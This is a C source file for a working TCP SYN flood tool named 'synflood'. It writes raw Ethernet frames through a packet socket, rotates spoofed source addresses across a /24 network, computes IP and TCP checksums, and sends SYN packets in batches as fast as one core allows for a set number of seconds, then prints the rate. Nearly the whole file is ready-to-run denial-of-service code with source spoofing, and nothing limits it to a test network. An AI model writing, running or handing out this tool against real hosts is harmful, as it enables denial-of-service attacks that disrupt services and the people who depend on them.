// link:
// libs:
/* SPDX-License-Identifier: GPL-3.0-or-later
 * First packets as fast as one core makes them: TCP SYN from a rotating set of sources, by frames on a card.
 *
 *   synflood CARD DESTINATION_MAC SOURCE_NETWORK_OF_24_BITS DESTINATION PORT SECONDS        (IPv4)
 *
 * Prints how many were sent and how many a second. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64
#define FRAME 54

static uint16_t sum(const unsigned char *p, size_t n, uint32_t s)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        s += (uint32_t)p[i] << 8 | p[i + 1];
    s = (s >> 16) + (s & 0xffff);
    return (uint16_t)~(s + (s >> 16));
}

static void put16(unsigned char *p, unsigned v)
{
    p[0] = (unsigned char)(v >> 8);
    p[1] = (unsigned char)v;
}

static void make(unsigned char f[FRAME], const unsigned char to[6], const unsigned char from[6], const unsigned char src[4], const unsigned char dst[4],
    unsigned port, uint32_t n)
{
    unsigned char *ip = f + 14, *tcp = f + 34, pseudo[32] = { 0 };
    memset(f, 0, FRAME);
    memcpy(f, to, 6);
    memcpy(f + 6, from, 6);
    put16(f + 12, 0x0800);
    ip[0] = 0x45;
    put16(ip + 2, 40);
    put16(ip + 4, n);
    ip[8] = 64;
    ip[9] = 6;
    memcpy(ip + 12, src, 4);
    memcpy(ip + 16, dst, 4);
    ip[15] = (unsigned char)(3 + n % 250);
    put16(ip + 10, sum(ip, 20, 0));
    put16(tcp, 1024 + n / 250 % 60000);
    put16(tcp + 2, port);
    memcpy(tcp + 4, &n, 4);
    tcp[12] = 0x50;
    tcp[13] = 0x02;
    put16(tcp + 14, 1024);
    memcpy(pseudo, ip + 12, 8);
    pseudo[9] = 6;
    pseudo[11] = 20;
    memcpy(pseudo + 12, tcp, 20);
    put16(tcp + 16, sum(pseudo, 32, 0));
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    static unsigned char frame[BATCH][FRAME];
    struct mmsghdr m[BATCH] = { 0 };
    struct iovec v[BATCH];
    struct ifreq r = { 0 };
    unsigned char to[6], src[4], dst[4];
    if (argc != 7 || sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &to[0], &to[1], &to[2], &to[3], &to[4], &to[5]) != 6 ||
        inet_pton(AF_INET, argv[3], src) != 1 || inet_pton(AF_INET, argv[4], dst) != 1) {
        fputs("usage: synflood CARD MAC SOURCE_NETWORK DESTINATION PORT SECONDS\n", stderr);
        return 2;
    }
    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_IP));
    struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = (int)if_nametoindex(argv[1]) };
    snprintf(r.ifr_name, sizeof r.ifr_name, "%s", argv[1]);
    if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof a) || ioctl(fd, SIOCGIFHWADDR, &r)) {
        perror(argv[1]);
        return 1;
    }
    for (int i = 0; i < BATCH; i++) {
        v[i] = (struct iovec){ frame[i], FRAME };
        m[i].msg_hdr.msg_iov = &v[i];
        m[i].msg_hdr.msg_iovlen = 1;
    }
    double start = now(), end = start + atof(argv[6]);
    uint64_t sent = 0;
    uint32_t n = 0;
    while (now() < end) {
        for (int i = 0; i < BATCH; i++)
            make(frame[i], to, (const unsigned char *)r.ifr_hwaddr.sa_data, src, dst, (unsigned)atoi(argv[5]), n++);
        int k = sendmmsg(fd, m, BATCH, 0);
        if (k > 0)
            sent += (uint64_t)k;
    }
    printf("%llu %.0f\n", (unsigned long long)sent, (double)sent / (now() - start));
    return 0;
}
